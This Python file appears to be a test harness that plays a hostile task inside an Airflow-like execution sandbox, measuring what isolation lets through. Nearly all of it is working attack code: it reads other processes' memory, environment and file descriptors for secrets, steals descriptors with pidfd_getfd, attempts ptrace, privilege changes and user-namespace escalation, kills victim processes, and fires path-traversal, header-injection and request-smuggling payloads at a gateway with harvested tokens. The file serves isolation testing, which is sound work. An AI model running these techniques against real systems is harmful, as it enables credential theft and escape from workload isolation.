"""What a hostile task tries, as a program of its own: search everything that it can reach for secrets.

It is told what to look for, so that the test can measure; each needle is written backwards in its orders, and only the
memory of this process, which it leaves out of its search, holds it forwards. Orders and the task's memory come on
standard input; the report goes into a file.
"""

import base64
import ctypes
import errno
import fcntl
import json
import os
import re
import resource
import signal
import socket
import stat
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

JWT = re.compile(rb"eyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{20,}")
#: A gateway token as it lies in memory: a Python string (``PyASCIIObject``) of 43 characters.
BEARER = re.compile(rb"(?s)\x2b\0{7}.{16,24}?([A-Za-z0-9_-]{43})\0")

PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
CLONE_NEWUSER = 0x10000000

#: Request targets that lead, or could be taken to lead, out of /execution.
OUTSIDE = r"""
    / /agent/v1/heartbeats /admin/v1/deployment /healthz /metrics /openapi.json /{deployment}/agent/v1/claims
    /agent/v1/workloads/{other}/token /execution/../agent/v1/claims /execution/../../admin/v1/tokens
    /execution/./../agent/v1/claims /execution/%2e%2e/agent/v1/claims /execution/..%2fagent/v1/claims
    /execution/%2e%2e%2fagent%2fv1%2fclaims /execution/..\agent\v1\claims /execution/..;/agent/v1/claims
    /execution/%252e%252e/agent/v1/claims //agent/v1/claims ///execution/../agent/v1/claims /executions
    /execution//../agent/v1/claims /execution/ /execution/.. /execution/../ /EXECUTION/../agent/v1/claims
    /execution%2f..%2fagent/v1/claims execution/../agent/v1/claims * ?x /%00/execution/
    /execution/../agent/v1/claims?x=/execution/ http://{admin}/admin/v1/deployment https://{admin}/admin/v1/tokens
    http://{admin}/execution/health http://user@{admin}/execution/health //{admin}/execution/health
    @{admin}/execution/health /execution@{admin}/admin/v1/tokens /execution/x%0d%0aHost:%20evil%0d%0a%0d%0a
    /execution#/../agent/v1
"""

#: The gateway holds what the plane does not answer: nothing that says no takes longer.
ANSWER_SECONDS = 2

BLOCK = 8 * 1024 * 1024
OVERLAP = 4096
PROCESS_BYTES = 512 * 1024 * 1024
FILE_BYTES = 2 * 1024 * 1024

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
libc.ptrace.restype = ctypes.c_long


class Attack:
    def __init__(self, orders: dict[str, Any]) -> None:
        self.orders = orders
        self.needles = {what: backwards[::-1].encode() for what, backwards in orders["needles"].items()}
        self.found: list[dict[str, str]] = []
        self.answers: list[dict[str, Any]] = []
        #: By attempt: how often it was made and how often it was let through.
        self.attempts: dict[str, dict[str, int]] = {}
        self.allowed: list[str] = []
        #: What may be a gateway token.
        self.bearers: set[str] = set()

    # --- searching ---------------------------------------------------------------------------------------------

    def search(self, where: str, content: bytes) -> None:
        for what, needle in self.needles.items():
            if needle in content:
                self.found.append({"what": what, "where": where})
        for match in JWT.finditer(content):
            if is_jwt(match[0]):
                self.found.append({"what": "task token", "where": where})
                break

    def collect_bearers(self, content: bytes) -> None:
        """What looks like a gateway token in the task's own memory."""
        for match in BEARER.finditer(content):
            text = match[1].decode()
            if (
                len(set(text)) > 20
                and re.search("[A-Z]", text)
                and re.search("[a-z]", text)
                and re.search("[0-9]", text)
            ):
                self.bearers.add(text)

    def tried(self, attempt: str, *, succeeded: bool, detail: str = "") -> None:
        counts = self.attempts.setdefault(attempt, {"tried": 0, "succeeded": 0})
        counts["tried"] += 1
        if succeeded:
            counts["succeeded"] += 1
            self.allowed.append(f"{attempt} {detail}".strip())

    def read(self, attempt: str, path: str | Path, limit: int = FILE_BYTES) -> bytes | None:
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        except OSError:
            self.tried(attempt, succeeded=False)
            return None
        try:
            content = b""
            while len(content) < limit and (block := os.read(descriptor, min(BLOCK, limit - len(content)))):
                content += block
        except OSError:
            self.tried(attempt, succeeded=False)
            return None
        finally:
            os.close(descriptor)
        self.tried(attempt, succeeded=True, detail=str(path))
        self.search(str(path), content)
        return content

    # --- processes ---------------------------------------------------------------------------------------------

    def attack_processes(self) -> None:
        own = os.getpid()
        deadline = time.monotonic() + self.orders["memory_seconds"]
        for pid in sorted(int(name) for name in _listing("/proc") or () if name.isdigit()):
            if pid == own:
                continue
            for name in ("cmdline", "environ", "auxv", "syscall", "stack", "pagemap", "coredump_filter"):
                self.read(f"/proc/pid/{name}", f"/proc/{pid}/{name}", 65536)
            for name in ("root", "cwd"):
                with_listing = _listing(f"/proc/{pid}/{name}/")
                self.tried(f"/proc/pid/{name}", succeeded=with_listing is not None, detail=str(pid))
            self.read_memory(pid, deadline)
            self.read_descriptors(pid)
            self.use_ptrace(pid)
            self.steal_descriptors(pid)
            self.signal(pid)

    def read_memory(self, pid: int, deadline: float) -> None:
        try:
            maps = Path(f"/proc/{pid}/maps").read_text()
            memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError:
            self.tried("/proc/pid/mem", succeeded=False)
            return
        self.tried("/proc/pid/mem", succeeded=True, detail=str(pid))
        total = 0
        try:
            for line in maps.splitlines():
                span, mode, *_ = line.split()
                start, end = (int(side, 16) for side in span.split("-"))
                if "r" not in mode or line.endswith((".so", "[vvar]", "[vsyscall]")):
                    continue
                for address in range(start, end, BLOCK - OVERLAP):
                    if time.monotonic() > deadline or total > PROCESS_BYTES:
                        return
                    with suppress(OSError, OverflowError):
                        block = os.pread(memory, min(BLOCK, end - address), address)
                        total += len(block)
                        self.search(f"/proc/{pid}/mem at {address:x}", block)
        finally:
            os.close(memory)

    def read_descriptors(self, pid: int) -> None:
        for descriptor in _listing(f"/proc/{pid}/fd") or ():
            path = f"/proc/{pid}/fd/{descriptor}"
            with suppress(OSError):
                if stat.S_ISREG(Path(path).stat().st_mode):
                    self.read("/proc/pid/fd", path)

    def use_ptrace(self, pid: int) -> None:
        attached = libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0
        self.tried("ptrace", succeeded=attached, detail=str(pid))
        if attached:
            libc.ptrace(PTRACE_DETACH, pid, None, None)
        local = (ctypes.c_char * 16)()
        ours, theirs = struct.pack("PN", ctypes.addressof(local), 16), struct.pack("PN", 0x1000, 16)
        read = libc.process_vm_readv(pid, ours, 1, theirs, 1, 0)
        self.tried("process_vm_readv", succeeded=read >= 0 or ctypes.get_errno() == errno.EFAULT, detail=str(pid))

    def steal_descriptors(self, pid: int) -> None:
        pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
        if pidfd < 0:
            return
        for number in range(64):
            stolen = libc.syscall(SYS_PIDFD_GETFD, pidfd, number, 0)
            if stolen >= 0:
                self.tried("pidfd_getfd", succeeded=True, detail=f"{pid} {number}")
                with suppress(OSError):
                    if stat.S_ISREG(os.fstat(stolen).st_mode):
                        self.search(f"descriptor {number} of {pid}", os.pread(stolen, FILE_BYTES, 0))
                os.close(stolen)
            else:
                self.tried("pidfd_getfd", succeeded=False)
                if ctypes.get_errno() == errno.EPERM:
                    break
        os.close(pidfd)

    def signal(self, pid: int) -> None:
        """The permission alone; then, where orders name victims, the real thing."""
        try:
            os.kill(pid, 0)
        except OSError:
            self.tried("kill", succeeded=False)
        else:
            self.tried("kill", succeeded=True, detail=str(pid))
        if pid not in self.orders["victims"]:
            return
        for number in (signal.SIGSTOP, signal.SIGABRT, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                self.tried("kill a victim", succeeded=False)
            else:
                self.tried("kill a victim", succeeded=True, detail=f"{pid} {number.name}")
        try:
            resource.prlimit(pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            self.tried("allow a core dump", succeeded=False)
        else:
            self.tried("allow a core dump", succeeded=True, detail=str(pid))

    # --- files -------------------------------------------------------------------------------------------------

    def attack_files(self) -> None:
        for path in self.orders["files"]:
            self.read("a file of the agent", path)
            for flags in (os.O_WRONLY, os.O_WRONLY | os.O_CREAT):
                try:
                    os.close(os.open(path, flags))
                except OSError:
                    self.tried("write a file of the agent", succeeded=False)
                else:
                    self.tried("write a file of the agent", succeeded=True, detail=path)
        deadline = time.monotonic() + self.orders["walk_seconds"]
        seen: set[tuple[int, int]] = set()
        for top in self.orders["walk"]:
            for path in _walk(top, seen):
                if time.monotonic() > deadline:
                    return
                self.read("a file on the way", path)
                self.use_lock(path)

    def use_lock(self, path: Path) -> None:
        """Let go of the agent's lock in the place of who holds it."""
        if path.name != "lock" or not str(path).startswith(self.orders["agent_directory"]):
            return
        with suppress(OSError), path.open("rb") as file:
            fcntl.flock(file, fcntl.LOCK_UN)
            self.tried("open a lock", succeeded=True, detail=str(path))

    def become_someone(self) -> None:
        """Another user, or root in a name space of our own, and the agent's files again."""
        for uid in (0, *self.orders["users"]):
            self.in_child("become another user", lambda uid=uid: os.setresuid(uid, uid, uid))

        def unshare() -> None:
            uid = os.getuid()
            if libc.unshare(CLONE_NEWUSER) != 0:
                raise OSError(ctypes.get_errno(), "unshare")
            Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
            for path in self.orders["files"]:
                if self.read("a file, as root of a name space", path) is not None:
                    return
            raise PermissionError

        self.in_child("become root of a name space", unshare)

    def in_child(self, attempt: str, act: Callable[[], None]) -> None:
        pid = os.fork()
        if pid == 0:
            try:
                act()
            except BaseException:
                os._exit(1)
            os._exit(0)
        self.tried(attempt, succeeded=os.waitpid(pid, 0)[1] == 0)

    # --- sockets -----------------------------------------------------------------------------------------------

    def attack_sockets(self) -> None:
        for path in _unix_sockets():
            try:
                with socket.socket(socket.AF_UNIX) as connection:
                    connection.settimeout(5)
                    connection.connect("\0" + path[1:] if path.startswith("@") else path)
            except OSError:
                self.tried("a UNIX socket", succeeded=False)
                continue
            self.tried("a UNIX socket", succeeded=True, detail=path)
            if path.startswith(self.orders["agent_directory"]):
                self.attack_gateway(path)
        for port in self.orders["ports"]:
            for path in ("/", "/healthz", "/metrics", "/admin/v1/deployment", "/admin/v1/tokens", "/api/v2/connections",
                         "/execution/connections/x", "/debug", "/openapi.json"):  # fmt: skip
                for token in (None, "guess", *self.bearers):
                    self.ask(f"port {port}", _request("GET", path, token), lambda port=port: _tcp(port))

    def attack_gateway(self, path: str) -> None:
        """Every trick, without a credential, with guesses, and with a gateway token that was stolen for us.

        A task does not know its own; if it has found one after all, it is tried as well.
        """
        known = {self.orders["stolen_token"]}
        for token in sorted(self.bearers):
            self.ask("a guess", _request("GET", "/execution/health", token), lambda: _unix(path))
            if self.answers.pop()["status"] == 200:
                known.add(token)
        for name, request in _tricks(self.orders, sorted(known)):
            self.ask(f"gateway {name}", request, lambda: _unix(path))

    def ask(self, name: str, request: bytes, connect: Callable[[], socket.socket]) -> None:
        answer = b""
        began = time.monotonic()
        try:
            with connect() as connection:
                connection.sendall(request)
                while not _is_whole(answer) and (block := connection.recv(65536)):
                    answer += block
        except OSError:
            pass
        self.search(f"the answer to {name}: {request[:200]!r}", answer)
        status = re.match(rb"HTTP/1\.[01] (\d{3})", answer)
        self.answers.append(
            {
                "name": name,
                "request": request[:300].decode("latin-1"),
                "status": int(status[1]) if status else None,
                "seconds": round(time.monotonic() - began, 3),
                "answer": answer[:1500].decode("latin-1"),
            }
        )

    def report(self) -> None:
        names = ("found", "attempts", "allowed", "answers")
        content = {name: getattr(self, name) for name in names}
        partial = Path(self.orders["report"] + ".partial")
        partial.write_text(json.dumps(content))
        partial.rename(self.orders["report"])


def _tricks(orders: dict[str, Any], bearers: list[str]) -> Iterator[tuple[str, bytes]]:
    """Requests that a gateway must not let out of /execution, nor let speak for someone else."""
    admin, other = f"127.0.0.1:{orders['admin_port']}", orders["victim_workload_id"]
    names = {"admin": admin, "other": other, "deployment": orders["deployment_id"]}
    outside = [line.format(**names) for line in OUTSIDE.split()]
    identities = [
        {"Isthmus-Workload-Id": other},
        {"isthmus-workload-id": other, "Isthmus-Agent-Id": other},
        {"Isthmus-Agent-Token": "isthmus_" + "a" * 60},
        {"Connection": "Isthmus-Agent-Token, Isthmus-Workload-Id, Authorization"},
        {"X-Forwarded-For": "127.0.0.1", "Forwarded": "for=127.0.0.1", "X-Real-Ip": "127.0.0.1"},
        {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": "/agent/v1/claims", "X-Rewrite-URL": "/agent/v1/claims"},
        {"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings", "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA"},
        {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Key": "x" * 22 + "=="},
        {"Transfer-Encoding": "chunked", "Content-Length": "4"},
        {"X-Evil": "a\r\nIsthmus-Workload-Id: " + other},
        {"X-Evil": "a\nIsthmus-Workload-Id: " + other},
        {"Expect": "100-continue"},
        {"Authorization ": "Bearer x"},
    ]
    victim = f"/execution/task-instances/{orders['victim_task_instance_id']}/state"
    state = json.dumps({"state": "failed", "end_date": "2026-01-01T00:00:00Z"}).encode()
    chunked = {"Transfer-Encoding": "chunked"}
    smuggled = f"GET /{orders['deployment_id']}/agent/v1/claims HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    for token in (None, "guess", "a" * 43, *bearers):
        who = "with a token" if token in bearers else f"with {token}"
        for path in outside:
            for method in ("GET", "POST"):
                yield f"{who}: outside", _request(method, path, token, body=b"{}" if method == "POST" else b"")
        for path in ("/execution/health", "/execution/connections/x", "/execution/variables/x"):
            yield f"{who}: inside", _request("GET", path, token)
            for host in (admin, "x\r\nIsthmus-Workload-Id: " + other, "127.0.0.1:1@" + admin):
                yield f"{who}: Host", _request("GET", path, token, host=host)
            for headers in identities:
                yield f"{who}: headers", _request("GET", path, token, headers=headers)
        for method in ("TRACE", "CONNECT", "OPTIONS", "PROPFIND", "GET\tx", "GET / HTTP/1.1\r\nX:"):
            yield f"{who}: method", _request(method, "/execution/health", token)
        yield f"{who}: tunnel", _request("CONNECT", admin, token)
        yield f"{who}: victim", _request("PATCH", victim, token, body=state)
        for headers in identities[:2]:
            yield f"{who}: victim", _request("PATCH", victim, token, headers=headers, body=state)
        body = b"0\r\n\r\n" + smuggled
        yield f"{who}: smuggling", _request("POST", "/execution/health", token, headers=chunked, body=body)
        yield f"{who}: pipelining", _request("GET", "/execution/health", token) + smuggled
    yield "a long line", b"GET /execution/" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    yield "noise", os.urandom(4096)


def _request(
    method: str,
    path: str,
    token: str | None,
    *,
    host: str = "gateway",
    headers: dict[str, str] | None = None,
    body: bytes = b"",
) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", "Airflow-API-Version: 2026-06-30"]
    if token is not None:
        lines.append(f"Authorization: Bearer {token}")
    if body:
        lines += [f"Content-Length: {len(body)}", "Content-Type: application/json"]
    lines += [f"{name}: {value}" for name, value in (headers or {}).items()]
    return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + body


def _is_whole(answer: bytes) -> bool:
    head, blank, body = answer.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
    if len(answer) > FILE_BYTES:
        return True
    return bool(blank) and (len(body) >= int(length[1]) if length else body.endswith(b"0\r\n\r\n"))


def _unix(path: str) -> socket.socket:
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(ANSWER_SECONDS)
    connection.connect("\0" + path[1:] if path.startswith("@") else path)
    return connection


def _tcp(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=ANSWER_SECONDS)


def _unix_sockets() -> list[str]:
    lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    return sorted({fields[7] for fields in (line.split(maxsplit=7) for line in lines) if len(fields) == 8})


def _listing(path: str) -> list[str] | None:
    try:
        return [entry.name for entry in Path(path).iterdir()]
    except OSError:
        return None


def _walk(top: str, seen: set[tuple[int, int]]) -> Iterator[Path]:
    """Regular files below ``top`` that are small enough to hold a secret, each once; not the programs' own files."""
    for directory, names, files in os.walk(top):
        names[:] = [name for name in names if name not in {"site-packages", "dist-packages", "__pycache__", ".git"}]
        if directory == "/":
            names[:] = [name for name in names if name not in {"proc", "sys", "dev", "usr", "lib", "lib64"}]
        for name in files:
            path = Path(directory, name)
            try:
                status = path.lstat()
            except OSError:
                continue
            key = (status.st_dev, status.st_ino)
            if stat.S_ISREG(status.st_mode) and status.st_size <= FILE_BYTES and key not in seen:
                seen.add(key)
                yield path


def gateway_tokens(memory: bytes) -> set[str]:
    """What has the form of a gateway token: 43 characters in which all kinds occur."""
    found = {match[1].decode() for match in BEARER.finditer(memory)}
    return {
        text
        for text in found
        if len(set(text)) > 20 and all(re.search(kind, text) for kind in ("[A-Z]", "[a-z]", "[0-9]"))
    }


def is_jwt(text: bytes) -> bool:
    try:
        head = text.split(b".")[0]
        return "alg" in json.loads(base64.urlsafe_b64decode(head + b"=" * (-len(head) % 4)))
    except ValueError:
        return False


def _frames() -> Iterator[tuple[str, bytes]]:
    stdin = sys.stdin.buffer
    while header := stdin.read(8):
        name, content = struct.unpack(">II", header)
        yield stdin.read(name).decode(), stdin.read(content)


def main() -> None:
    incoming = _frames()
    attack = Attack(json.loads(next(incoming)[1]))
    for name, value in attack.orders["environment"].items():
        attack.search(f"os.environ[{name!r}]", f"{name}={value}".encode())
    for where, content in incoming:
        attack.search(where, content)
        attack.collect_bearers(content)
        attack.tried("own memory", succeeded=True)
    attack.attack_files()
    attack.attack_processes()
    attack.become_someone()
    attack.attack_sockets()
    attack.report()


if __name__ == "__main__":
    main()
